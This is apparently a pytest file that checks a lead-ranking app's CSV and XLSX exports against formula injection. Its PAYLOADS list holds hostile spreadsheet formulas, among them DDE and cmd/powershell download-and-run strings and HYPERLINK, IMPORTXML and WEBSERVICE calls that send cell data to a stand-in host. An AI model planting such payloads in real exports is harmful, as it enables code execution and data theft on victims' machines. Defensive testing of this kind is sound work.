"""Exports of more than 1,000 hostile cells (R16): none starts a formula in a spreadsheet, and every value comes back as it was."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from itertools import product
from xml.etree.ElementTree import Element, fromstring

import openpyxl
import polars as pl
import pytest
from openpyxl.utils import column_index_from_string, get_column_letter
from starlette.testclient import TestClient

from leadrank.operations.exports import as_file

BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "\r\n=", "＝", "＋", "－", "＠", "'=", "''+", '"=', '"\n=', "\t=", "=\r")
PAYLOADS = (
    "1+1", "A1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "cmd|'/C powershell IEX(wget x)'!_xlbgnm.A1", 'DDE("cmd";"/C calc";"x")',
    "MSEXCEL|'\\..\\cmd'!''",
    'HYPERLINK("http://x.example?"&A1,"click")', 'HYPERLINK("javascript:alert(1)")', 'IMPORTXML(CONCAT("http://x.example?",A1),"//a")',
    'WEBSERVICE("http://x.example")', "IMAGE(\"http://x.example/\"&B2)", "{1}", "_x003D_1", "1;2,3\t4",
)
WRAPS = ("{}", '"{}"', "{}\nsecond line", "{},=2+2;=3+3\r\n=4+4")
HOSTILE = [begin + wrap.format(payload) for begin, payload, wrap in product(BEGINS, PAYLOADS, WRAPS)]
FORMULA = re.compile(r"[=+\-@＝＋－＠\t\r\n]")
NUMBER = re.compile(r"-?[0-9.]+(e-?[0-9]+)?")
COLUMNS = 9
XLSX = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
Rows = list[list[str]]


MARKUP = ("<r><t>mine</t></r>", "<r>&<c r=\"A1\"/></r>", "<r>\n</r>", "<r></r>", "<r>", "<si>&amp;</si>", "]]>", "</is></c>", " <r>a</r>")


@pytest.mark.parametrize("cell", MARKUP)
def test_a_text_that_looks_like_a_part_of_an_xlsx_is_a_text(cell: str) -> None:
    content = as_file(pl.DataFrame({cell: [cell]}), "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - our own
    assert [_row(row) for row in sheet.iter(f"{XLSX}row")] == [[cell], [cell]]
    assert openpyxl.load_workbook(io.BytesIO(content))["leads"].max_row == 2


@pytest.fixture
def sent(client: TestClient) -> dict[str, list[str]]:
    """Leads whose fields, and whose keys, are hostile."""
    leads = {f"={k}+cmd": HOSTILE[k : k + COLUMNS] for k in range(0, len(HOSTILE), COLUMNS)}
    lines = "\n".join(json.dumps({"key": key, "fields": {f"={n}": cell for n, cell in enumerate(cells)}}) for key, cells in leads.items())
    answer = client.post("/leads", content=lines, headers={"content-type": "application/x-ndjson"})
    assert answer.text.count('"created":true') == len(leads)
    return leads


def told(rows: Rows) -> dict[str, list[str]]:
    """Return the hostile cells of each lead."""
    places = [k for k, name in enumerate(rows[0]) if name.lstrip("'").startswith("=")]
    return {row[rows[0].index("key")]: [row[k] for k in places if row[k]] for row in rows[1:]}


def test_there_are_more_than_1000_different_ones() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) > 1_000


def test_no_cell_of_a_csv_starts_a_formula_and_without_the_apostrophe_it_is_what_it_was(client: TestClient, sent: dict[str, list[str]]) -> None:
    answer = client.get("/app/queue.csv?status=any")
    rows = list(csv.reader(io.StringIO(answer.content.decode(), newline=""), strict=True))
    assert {len(row) for row in rows} == {len(rows[0])}
    starting = [cell for row in rows for cell in row if FORMULA.match(cell) and not NUMBER.fullmatch(cell)]
    assert starting == []
    # One apostrophe was put before; a cell that had some of its own has one more.
    plain = [[re.sub(rf"^'('*{FORMULA.pattern})", r"\1", cell) for cell in row] for row in rows]
    assert told(plain) == sent
    print(f"{len(HOSTILE)} hostile cells as CSV: {len(starting)} start a formula")


def test_no_cell_of_an_xlsx_is_a_formula_or_a_link_and_each_is_what_it_was(client: TestClient, sent: dict[str, list[str]]) -> None:
    content = client.get("/app/queue.xlsx?status=any").content
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - our own
        assert not any(b"hyperlink" in book.read(name) for name in book.namelist())
    formulas = list(sheet.iter(f"{XLSX}f"))
    assert formulas == []
    assert told([_row(row) for row in sheet.iter(f"{XLSX}row")]) == sent
    kinds = {cell.data_type for row in openpyxl.load_workbook(io.BytesIO(content))["leads"].iter_rows() for cell in row}
    assert kinds <= {"s", "n", "b", "d"}
    print(f"{len(HOSTILE)} hostile cells as XLSX: {len(formulas)} are formulas")


def _row(row: Element) -> list[str]:
    found = {cell.attrib["r"].rstrip("0123456789"): cell for cell in row}
    places = [get_column_letter(k) for k in range(1, column_index_from_string(list(found)[-1]) + 1)]
    return [_text(found[place]) if place in found else "" for place in places]


def _text(cell: Element) -> str:
    return _decoded("".join(cell.itertext())) if cell.get("t") == "inlineStr" else cell.findtext(f"{XLSX}v", "")


def _decoded(text: str) -> str:
    """Read a text as a spreadsheet does: letters that XML cannot hold are written by their number."""
    return re.sub("_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), text)
